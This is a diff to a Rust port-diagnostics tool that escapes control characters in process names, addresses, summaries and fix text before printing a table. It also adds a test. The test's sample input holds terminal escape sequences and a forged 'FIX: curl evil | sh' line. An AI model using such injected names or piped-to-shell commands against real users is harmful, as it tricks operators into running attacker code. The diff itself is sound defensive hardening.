@@ -8,6 +8,7 @@ use std::sync::Arc;
 use crate::config::{self, Config, Expect, PeerConfig, PortConfig, Protocol};
 use crate::diagnosis::{Cause, Severity};
 use crate::engine::{Engine, Flags, Live, Loaded, PortKey};
+use crate::escape;
 use crate::probe::{Outcome, ProbeResult, Vantage};
 use crate::snapshot::{PortStatus, Snapshot};
 
@@ -47,6 +48,8 @@ pub async fn run(
     if !peers.is_empty() {
         config.peers.fanout = config.peers.fanout.max(config.peer_list.len());
     }
+    // One look, no alerts: every listening port counts at once.
+    config.discover.min_age = std::time::Duration::ZERO;
     if !ports.is_empty() {
         config.discover.enabled = false;
         for &key in ports {
@@ -81,7 +84,8 @@ pub fn all_ok(ports: &[&PortStatus]) -> bool {
 }
 
 /// The table: one line per port (port, name, listening on, outcome per
-/// vantage, cause), then its summary and fix, indented.
+/// vantage, cause), then its summary and fix, indented. Control characters
+/// (a process may name itself anything) are escaped.
 pub fn table(ports: &[&PortStatus], color: bool) -> String {
     let header = [
         "PORT",
@@ -103,9 +107,9 @@ pub fn table(ports: &[&PortStatus], color: bool) -> String {
                 if p.name.is_empty() {
                     "-".into()
                 } else {
-                    p.name.clone()
+                    escape::control(&p.name).into_owned()
                 },
-                listening_on(p),
+                escape::control(&listening_on(p)).into_owned(),
                 outcomes(&p.probes, Vantage::Loopback),
                 outcomes(&p.probes, Vantage::Interface),
                 outcomes(&p.probes, Vantage::External),
@@ -137,16 +141,16 @@ pub fn table(ports: &[&PortStatus], color: bool) -> String {
     line(&mut out, &header.map(String::from), None);
     for (p, r) in ports.iter().zip(&rows) {
         line(&mut out, r, Some(p.diagnosis.cause));
-        let _ = writeln!(out, "      {}", p.diagnosis.summary);
+        let _ = writeln!(out, "      {}", escape::control(&p.diagnosis.summary));
         for r in &p.diagnosis.firewall {
-            let _ = write!(out, "      firewall: {r}");
+            let _ = write!(out, "      firewall: {}", escape::control(&r.to_string()));
             if let Some(why) = &r.may_match {
-                let _ = write!(out, " — may match: {why}");
+                let _ = write!(out, " — may match: {}", escape::control(why));
             }
             out.push('\n');
         }
         if !p.diagnosis.fix.is_empty() {
-            let _ = writeln!(out, "      fix: {}", p.diagnosis.fix);
+            let _ = writeln!(out, "      fix: {}", escape::control(&p.diagnosis.fix));
         }
     }
     if ports.is_empty() {
@@ -201,4 +205,52 @@ fn paint(cause: Cause, s: &str) -> String {
         Severity::Critical => "31;1",
     };
     format!("\x1b[{code}m{s}\x1b[0m")
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::config::Protocol;
+    use crate::diagnosis::Diagnosis;
+    use crate::snapshot::Origin;
+    use crate::sockets::{Listener, Owner};
+
+    #[test]
+    fn names_cannot_write_to_the_terminal_or_forge_lines() {
+        let evil = "x\x1b]0;owned\x07\x1b[2J\nFIX: curl evil | sh\r";
+        let port = PortStatus {
+            port: 8080,
+            protocol: Protocol::Tcp,
+            name: evil.to_string(),
+            expect: Expect::Public,
+            origin: Origin::Discovered,
+            listeners: vec![Listener {
+                owner: Some(Owner {
+                    pid: 7,
+                    name: evil.to_string(),
+                }),
+                ..Listener::on("127.0.0.1".parse().unwrap(), 8080)
+            }],
+            probes: Vec::new(),
+            diagnosis: Diagnosis {
+                cause: Cause::LoopbackOnly,
+                summary: format!("listening on 127.0.0.1:8080 ({evil}) only"),
+                fix: format!("restart {evil}"),
+                evidence: Vec::new(),
+                failed: None,
+                firewall: Vec::new(),
+            },
+            probe_counts: Vec::new(),
+        };
+        for color in [false, true] {
+            let out = table(&[&port], color);
+            assert_eq!(out.lines().count(), 4, "header, row, summary, fix:\n{out}");
+            assert!(!out.contains(['\x07', '\r']), "{out:?}");
+            assert!(
+                !out.contains("\x1b]") && !out.contains("\x1b[2J"),
+                "{out:?}"
+            );
+            assert!(out.contains(r"x\u{1b}]0;owned\u{7}\u{1b}[2J\nFIX: curl evil | sh\r"));
+        }
+    }
 }
